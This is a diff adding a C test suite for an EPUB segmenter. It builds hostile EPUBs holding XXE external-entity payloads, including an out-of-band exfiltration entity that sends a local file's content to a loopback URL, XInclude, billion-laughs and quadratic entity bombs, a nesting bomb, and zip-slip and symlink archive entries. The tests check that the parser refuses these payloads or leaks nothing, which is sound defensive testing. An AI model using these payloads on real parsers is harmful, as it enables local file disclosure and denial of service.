@@ -6,6 +6,7 @@
 
 #include <archive.h>
 #include <archive_entry.h>
+#include <glib/gstdio.h>
 #include <string.h>
 
 static SutraRegistry *registry;
@@ -2077,6 +2078,483 @@ test_segmenter_bad_input (gconstpointer data)
   g_assert_true (g_str_has_prefix (anonymous_error->message, row->name));
 }
 
+/* Hostile input: EPUBs that try to read local files or URLs, to expand
+ * into gigabytes, to escape the archive, to nest without end, and texts
+ * with huge lines and NUL bytes. Each must give a clear error naming the
+ * book, or correct output; none may put what it points at in the
+ * output. */
+
+#define SECRET "SUTRA-SECRET-7d1e0c"
+
+/* "@FILE@": the URI of a file holding SECRET; "@DTD@": that of a DTD
+ * declaring the entity "secret" as SECRET (and the parameter entity
+ * "%secret_decl"); "@LONG@": 20,000 letters; "@REFS@": 20,000 references
+ * to the entity "a"; "@DEEP@" and "@UNDEEP@": 100,000 nested <div>s, opened
+ * and closed; "@NUL@": a NUL byte. An entry whose text starts with "->" is
+ * a symbolic link to the rest. */
+typedef struct
+{
+  const char *name;
+  const char *const *zip;
+  const char *params;
+  const char *cause;  /* nullable: the error's message holds it; NULL: read */
+  const char *joined; /* nullable: when read, every chunk joined by spaces */
+} HostileCase;
+
+#define OPF_DOCTYPE(doctype, creator, manifest, spine)                                             \
+  "<?xml version=\"1.0\"?>" doctype "<package xmlns=\"http://www.idpf.org/2007/opf\" "             \
+  "version=\"3.0\"><metadata xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>Tiny"         \
+  "</dc:title><dc:creator>" creator "</dc:creator><dc:language>en</dc:language></metadata>"        \
+  "<manifest><item id=\"ncx\" href=\"toc.ncx\" media-type=\"application/x-dtbncx+xml\"/>" manifest \
+  "</manifest><spine toc=\"ncx\">" spine "</spine></package>"
+
+#define OPF_ONE(doctype, creator) \
+  OPF_DOCTYPE (doctype, creator, OPF_ITEM ("c1"), "<itemref idref=\"c1\"/>")
+
+#define XHTML_DOCTYPE(doctype, body)                                                          \
+  "<?xml version=\"1.0\" encoding=\"utf-8\"?>" doctype "<html "                               \
+  "xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body>" body "</body>" \
+  "</html>"
+
+#define EXTERNAL(name) "<!ENTITY " name " SYSTEM \"@FILE@\">"
+
+#define HOSTILE_EPUB(opf, ncx, chapter)                                                           \
+  {                                                                                               \
+    "mimetype", "application/epub+zip", "META-INF/container.xml", CONTAINER, "OEBPS/content.opf", \
+      opf, "OEBPS/toc.ncx", ncx, "OEBPS/c1.xhtml", chapter, NULL,                                 \
+  }
+
+#define PLAIN_OPF OPF_ONE ("", "A. Writer")
+#define PLAIN_NCX NCX (NAV_POINT ("One", "c1.xhtml", ""))
+#define PLAIN_CHAPTER XHTML ("<p>Before.</p><p>After.</p>")
+
+static const char *const xxe_opf[] =
+  HOSTILE_EPUB (OPF_ONE ("<!DOCTYPE package [" EXTERNAL ("x") "]>", "&x;"),
+                PLAIN_NCX,
+                PLAIN_CHAPTER);
+static const char *const xxe_opf_attribute[] =
+  HOSTILE_EPUB (OPF_DOCTYPE ("<!DOCTYPE package [" EXTERNAL ("x") "]>",
+                             "A. Writer",
+                             "<item id=\"c1\" href=\"&x;\" media-type=\"application/xhtml+xml\"/>",
+                             "<itemref idref=\"c1\"/>"),
+                PLAIN_NCX,
+                PLAIN_CHAPTER);
+static const char *const xxe_chapter[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [" EXTERNAL ("x") "]>", "<p>Before &x; after.</p>"));
+static const char *const xxe_ncx[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  "<?xml version=\"1.0\"?><!DOCTYPE ncx [" EXTERNAL (
+    "x") "]><ncx "
+         "xmlns=\"http://www.daisy.org/z3986/2005/ncx/\" version=\"2005-1\"><navMap>" NAV_POINT (
+           "&x;",
+           "c1.xhtml",
+           "") "</navMap></ncx>",
+  PLAIN_CHAPTER);
+static const char *const xxe_nav[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_TWO_CHAPTERS,
+  "OEBPS/nav.xhtml",
+  "<?xml version=\"1.0\"?><!DOCTYPE html [" EXTERNAL (
+    "x") "]><html "
+         "xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:epub=\"http://www.idpf.org/2007/ops\"><body>"
+         "<nav epub:type=\"toc\"><ol><li><a href=\"text/c1.xhtml\">&x;</a></li></ol></nav></body>"
+         "</html>",
+  "OEBPS/text/c1.xhtml",
+  PLAIN_CHAPTER,
+  "OEBPS/text/c 2.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const xxe_container[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  "<?xml version=\"1.0\"?><!DOCTYPE container [" EXTERNAL (
+    "x") "]><container version=\"1.0\" "
+         "xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"><rootfiles><rootfile "
+         "full-path=\"OEBPS/content.opf\" "
+         "media-type=\"application/oebps-package+xml\">&x;</rootfile>"
+         "</rootfiles></container>",
+  "OEBPS/content.opf",
+  PLAIN_OPF,
+  "OEBPS/toc.ncx",
+  PLAIN_NCX,
+  "OEBPS/c1.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const xxe_http[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY x SYSTEM \"http://127.0.0.1:9/" SECRET
+                               "\">]>",
+                               "<p>Before &x; after.</p>"));
+static const char *const xxe_parameter[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY % p SYSTEM \"@DTD@\"> %p;]>",
+                               "<p>Before &secret; after.</p>"));
+/* The "out of band" form: a parameter entity builds the declaration of
+ * an entity whose URL carries the file. */
+static const char *const xxe_parameter_oob[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY % file SYSTEM \"@FILE@\"><!ENTITY % eval \"<!ENTITY "
+                 "&#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\"> %eval; %exfil;]>",
+                 "<p>Before after.</p>"));
+/* An external DTD is never loaded: its entity stays undeclared. */
+static const char *const xxe_external_dtd[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html SYSTEM \"@DTD@\">",
+                               "<p>Before &secret; after.</p>"));
+/* EPUB 2's usual XHTML 1.1 DOCTYPE: read, offline, its entities from
+ * HTML's table. */
+static const char *const xhtml11_doctype[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" "
+                               "\"http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd\">",
+                               "<p>Caf&eacute;&nbsp;au lait &amp; more.</p>"));
+static const char *const xinclude[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("",
+                               "<p xmlns:xi=\"http://www.w3.org/2001/XInclude\">Before. "
+                               "<xi:include href=\"@FILE@\" parse=\"text\"/> After.</p>"));
+static const char *const billion_laughs[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY lol \"lol\">"
+                 "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
+                 "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
+                 "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
+                 "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
+                 "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
+                 "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
+                 "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
+                 "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
+                 "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">"
+                 "]>",
+                 "<p>&lol9;</p>"));
+static const char *const quadratic_blowup[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY a \"@LONG@\">]>", "<p>@REFS@</p>"));
+static const char *const quadratic_attribute[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY a \"@LONG@\">]>",
+                               "<p class=\"@REFS@\">Text.</p>"));
+/* Entities that stand for a character, as some XHTML declares them: in
+ * text, in a title and in the attribute that names the chapter's file. */
+static const char *const small_entities[] = HOSTILE_EPUB (
+  OPF_DOCTYPE ("<!DOCTYPE package [<!ENTITY ch \"c1\"><!ENTITY who \"A.&#160;W.\">]>",
+               "&who;",
+               "<item id=\"c1\" href=\"&ch;.xhtml\" media-type=\"application/xhtml+xml\"/>",
+               "<itemref idref=\"c1\"/>"),
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY nb \"&#160;\"><!ENTITY dash \"&#x2014;\">]>",
+                 "<p>It&nb;was&dash;dark <b>and&nb;cold</b>.</p>"));
+static const char *const depth_bomb[] =
+  HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, XHTML ("<p>Before.</p>@DEEP@deep@UNDEEP@"));
+static const char *const nul_in_chapter[] =
+  HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, XHTML ("<p>Before.@NUL@After.</p>"));
+static const char *const nul_in_package[] =
+  HOSTILE_EPUB (OPF_ONE ("", "A.@NUL@Writer"), PLAIN_NCX, PLAIN_CHAPTER);
+/* "../" in entry names and in the manifest: nothing outside the archive
+ * is read, and nothing is written anywhere. */
+static const char *const zip_slip[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_DOCTYPE ("",
+               "A. Writer",
+               "<item id=\"c1\" href=\"../../sutra-zip-slip.xhtml\" "
+               "media-type=\"application/xhtml+xml\"/>",
+               "<itemref idref=\"c1\"/>"),
+  "../../sutra-zip-slip.xhtml",
+  PLAIN_CHAPTER,
+  "OEBPS/../../sutra-zip-slip.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const zip_slip_unused[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  PLAIN_OPF,
+  "OEBPS/toc.ncx",
+  PLAIN_NCX,
+  "OEBPS/c1.xhtml",
+  PLAIN_CHAPTER,
+  "../../sutra-zip-slip.xhtml",
+  XHTML ("<p>" SECRET "</p>"),
+  "/tmp/sutra-zip-slip.xhtml",
+  XHTML ("<p>Absolute.</p>"),
+  NULL,
+};
+static const char *const symlink_chapter[] = HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, "->@PATH@");
+/* The spine names one chapter a thousand times, and two in a cycle: each
+ * is read once. */
+static const char *const spine_repeats[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_DOCTYPE (
+    "",
+    "A. Writer",
+    OPF_ITEM ("c1")
+      OPF_ITEM ("c2") "<item id=\"again\" href=\"c1.xhtml\" media-type=\"application/xhtml+xml\"/>",
+    "@SPINE@<itemref idref=\"c2\"/><itemref idref=\"c1\"/><itemref idref=\"again\"/>"
+    "<itemref idref=\"c2\"/>"),
+  "OEBPS/toc.ncx",
+  NCX (NAV_POINT ("One", "c1.xhtml", "") NAV_POINT ("Two", "c2.xhtml", "")),
+  "OEBPS/c1.xhtml",
+  XHTML ("<p>First chapter.</p>"),
+  "OEBPS/c2.xhtml",
+  XHTML ("<p>Second chapter.</p>"),
+  NULL,
+};
+
+#define REFUSED ": sutra refuses such entities"
+
+static const HostileCase hostile_cases[] = {
+  { "xxe-opf", xxe_opf, NULL,
+    "“OEBPS/content.opf” line 1: the DOCTYPE declares the external entity “x” (SYSTEM “file://",
+    NULL },
+  { "xxe-opf-attribute", xxe_opf_attribute, NULL,
+    "“OEBPS/content.opf” line 1: the DOCTYPE declares", NULL },
+  { "xxe-chapter", xxe_chapter, NULL,
+    "“OEBPS/c1.xhtml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-ncx", xxe_ncx, NULL,
+    "“OEBPS/toc.ncx” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-nav", xxe_nav, NULL,
+    "“OEBPS/nav.xhtml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-container", xxe_container, NULL,
+    "“META-INF/container.xml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-http", xxe_http, NULL, "declares the external entity “x” (SYSTEM “http://127.0.0.1:9/",
+    NULL },
+  { "xxe-parameter", xxe_parameter, NULL, "declares the parameter entity “%p”" REFUSED, NULL },
+  { "xxe-parameter-oob", xxe_parameter_oob, NULL, "declares the parameter entity “%file”", NULL },
+  { "external-dtd", xxe_external_dtd, NULL, NULL, "Before after." },
+  { "xhtml11-doctype", xhtml11_doctype, NULL, NULL,
+    "Caf\xc3\xa9\xc2\xa0"
+    "au lait & more." },
+  { "xinclude", xinclude, NULL, NULL, "Before. After." },
+  { "billion-laughs", billion_laughs, NULL,
+    "declares the entity “lol1”, whose text is longer than 8 bytes or holds markup or references "
+    "to other entities" REFUSED,
+    NULL },
+  { "quadratic-blowup", quadratic_blowup, NULL, "declares the entity “a”, whose text is longer",
+    NULL },
+  { "quadratic-attribute", quadratic_attribute, NULL, "declares the entity “a”", NULL },
+  { "small-entities", small_entities, NULL, NULL,
+    "It\xc2\xa0was\xe2\x80\x94"
+    "dark and\xc2\xa0"
+    "cold." },
+  { "depth-bomb", depth_bomb, NULL, "elements nested deeper than 256 levels", NULL },
+  { "nul-in-chapter", nul_in_chapter, NULL, "malformed XML in “OEBPS/c1.xhtml” at line 1", NULL },
+  { "nul-in-package", nul_in_package, NULL, "malformed XML in “OEBPS/content.opf” at line 1",
+    NULL },
+  { "zip-slip", zip_slip, NULL,
+    "spine itemref “c1” in “OEBPS/content.opf” names “../../sutra-zip-slip.xhtml”, which climbs "
+    "out of the archive",
+    NULL },
+  { "zip-slip-unused", zip_slip_unused, NULL, NULL, "Before. After." },
+  { "symlink", symlink_chapter, NULL,
+    "spine item “c1” names “OEBPS/c1.xhtml”, which is a symbolic link in the archive", NULL },
+  { "spine-repeats", spine_repeats, "{\"epub_chapters\": \"spine\"}", NULL,
+    "First chapter. Second chapter." },
+};
+
+static void
+write_zip_link (struct archive *archive, const char *name, const char *target)
+{
+  struct archive_entry *entry = archive_entry_new ();
+
+  archive_entry_set_pathname (entry, name);
+  archive_entry_set_filetype (entry, AE_IFLNK);
+  archive_entry_set_perm (entry, 0777);
+  archive_entry_set_symlink (entry, target);
+  archive_entry_set_size (entry, 0);
+  g_assert_cmpint (archive_write_header (archive, entry), ==, ARCHIVE_OK);
+  archive_entry_free (entry);
+}
+
+static char *
+repeat_string (const char *unit, guint n)
+{
+  GString *out = g_string_new (NULL);
+
+  for (guint i = 0; i < n; i++)
+    g_string_append (out, unit);
+  return g_string_free (out, FALSE);
+}
+
+/* The template with its placeholders replaced: @NUL@ makes it hold a NUL,
+ * so its length is returned too. */
+static GBytes *
+expand_template (const char *text, GHashTable *values)
+{
+  GString *out = g_string_new (NULL);
+
+  for (const char *p = text; *p != '\0';)
+    {
+      const char *end = p[0] == '@' ? strchr (p + 1, '@') : NULL;
+      g_autofree char *key = end != NULL ? g_strndup (p, (gsize) (end - p + 1)) : NULL;
+      const char *value = key != NULL ? g_hash_table_lookup (values, key) : NULL;
+
+      if (key != NULL && strcmp (key, "@NUL@") == 0)
+        {
+          g_string_append_c (out, '\0');
+          p = end + 1;
+        }
+      else if (value != NULL)
+        {
+          g_string_append (out, value);
+          p = end + 1;
+        }
+      else
+        g_string_append_c (out, *p++);
+    }
+  return g_string_free_to_bytes (out);
+}
+
+static GBytes *
+make_hostile_zip (const char *const *entries, GHashTable *values)
+{
+  struct archive *archive = archive_write_new ();
+  GByteArray *bytes = g_byte_array_new ();
+
+  archive_write_set_format_zip (archive);
+  g_assert_cmpint (archive_write_open (archive, bytes, NULL, zip_write_cb, NULL), ==, ARCHIVE_OK);
+  for (guint i = 0; entries[i] != NULL; i += 2)
+    {
+      g_autoptr (GBytes) data = expand_template (entries[i + 1], values);
+      gsize size;
+      const char *text = g_bytes_get_data (data, &size);
+
+      if (g_str_has_prefix (text, "->"))
+        write_zip_link (archive, entries[i], text + 2);
+      else
+        write_zip_entry (archive, entries[i], text, size, 1);
+    }
+  g_assert_cmpint (archive_write_close (archive), ==, ARCHIVE_OK);
+  archive_write_free (archive);
+  return g_byte_array_free_to_bytes (bytes);
+}
+
+/* Whether @needle is anywhere in the items: text, ids or metadata. */
+static gboolean
+items_hold (GPtrArray *items, const char *needle)
+{
+  for (guint i = 0; i < items->len; i++)
+    {
+      SutraItem *item = items->pdata[i];
+      g_autofree char *text = item_text (item);
+      JsonObject *meta = sutra_item_get_meta (item);
+      g_autofree char *meta_json = NULL;
+
+      if (meta != NULL)
+        {
+          g_autoptr (JsonNode) node = json_node_init_object (json_node_alloc (), meta);
+
+          meta_json = json_to_string (node, FALSE);
+        }
+      if (strstr (text, needle) != NULL || strstr (sutra_item_get_id (item), needle) != NULL ||
+          (meta_json != NULL && strstr (meta_json, needle) != NULL))
+        return TRUE;
+    }
+  return FALSE;
+}
+
+static void
+test_segmenter_hostile (gconstpointer data)
+{
+  const HostileCase *row = data;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("sutra-hostile-XXXXXX", &error);
+  g_autofree char *secret_path = g_build_filename (dir, "secret.txt", NULL);
+  g_autofree char *dtd_path = g_build_filename (dir, "secret.dtd", NULL);
+  g_autofree char *secret_uri = g_filename_to_uri (secret_path, NULL, NULL);
+  g_autofree char *dtd_uri = g_filename_to_uri (dtd_path, NULL, NULL);
+  g_autofree char *book_path = g_strdup_printf ("/books/%s.epub", row->name);
+  g_autofree char *cwd = g_get_current_dir ();
+  g_autofree char *slipped = g_build_filename (cwd, "..", "..", "sutra-zip-slip.xhtml", NULL);
+  g_autoptr (GHashTable) values = g_hash_table_new_full (g_str_hash, g_str_equal, NULL, g_free);
+  g_autoptr (SutraItem) book = NULL;
+  g_autoptr (GPtrArray) items = NULL;
+
+  g_test_summary ("Hostile EPUBs: external entities by every route (package, container, NCX, "
+                  "nav, chapters, attributes, parameter entities, external DTDs, http), "
+                  "XInclude, entity bombs, a depth bomb, NUL bytes, \"../\" and symbolic links "
+                  "in the archive, a spine repeating its documents: a clear error naming the "
+                  "document, or correct output, and never the content of a file they point at");
+  g_assert_no_error (error);
+  g_file_set_contents (secret_path, SECRET "\n", -1, &error);
+  g_assert_no_error (error);
+  g_file_set_contents (dtd_path,
+                       "<!ENTITY secret \"" SECRET "\">\n"
+                       "<!ENTITY % secret_decl \"<!ENTITY leaked '" SECRET "'>\">\n",
+                       -1, &error);
+  g_assert_no_error (error);
+  g_hash_table_insert (values, "@FILE@", g_strdup (secret_uri));
+  g_hash_table_insert (values, "@DTD@", g_strdup (dtd_uri));
+  g_hash_table_insert (values, "@PATH@", g_strdup (secret_path));
+  g_hash_table_insert (values, "@LONG@", repeat_string ("a", 20000));
+  g_hash_table_insert (values, "@REFS@", repeat_string ("&a;", 20000));
+  g_hash_table_insert (values, "@DEEP@", repeat_string ("<div>", 100000));
+  g_hash_table_insert (values, "@UNDEEP@", repeat_string ("</div>", 100000));
+  g_hash_table_insert (values, "@SPINE@", repeat_string ("<itemref idref=\"c1\"/>", 1000));
+
+  book = make_book (row->name, book_path, SUTRA_MEDIA_EPUB, make_hostile_zip (row->zip, values));
+  items = segment (row->params, book, &error);
+  /* Before anything else: whatever the outcome, the file's content is
+   * nowhere. */
+  if (items != NULL)
+    g_assert_false (items_hold (items, SECRET));
+  if (error != NULL)
+    g_assert_null (strstr (error->message, SECRET "\n"));
+  if (row->cause != NULL)
+    {
+      g_assert_null (items);
+      g_assert_error (error, SUTRA_PLUGIN_ERROR, SUTRA_PLUGIN_ERROR_INVALID_INPUT);
+      if (g_test_verbose ())
+        g_test_message ("%s", error->message);
+      g_assert_true (g_str_has_prefix (error->message, book_path));
+      g_assert_nonnull (strstr (error->message, row->cause));
+    }
+  else
+    {
+      g_autofree char *joined = NULL;
+
+      g_assert_no_error (error);
+      g_assert_nonnull (items);
+      assert_well_formed (items, row->name);
+      g_assert_false (items_hold (items, "lollol"));
+      joined = joined_chunks (items);
+      g_assert_cmpstr (joined, ==, row->joined);
+    }
+  g_assert_false (g_file_test (slipped, G_FILE_TEST_EXISTS));
+  g_assert_false (g_file_test ("/tmp/sutra-zip-slip.xhtml", G_FILE_TEST_EXISTS));
+  g_remove (secret_path);
+  g_remove (dtd_path);
+  g_rmdir (dir);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -2174,6 +2652,14 @@ main (int argc, char **argv)
         g_strdup_printf ("/plugins/segmenter/bad-input/%s", bad_inputs[i].name);
 
       g_test_add_data_func (test_path, &bad_inputs[i], test_segmenter_bad_input);
+    }
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_cases); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/hostile/%s", hostile_cases[i].name);
+
+      g_test_add_data_func (test_path, &hostile_cases[i], test_segmenter_hostile);
     }
 
   status = g_test_run ();
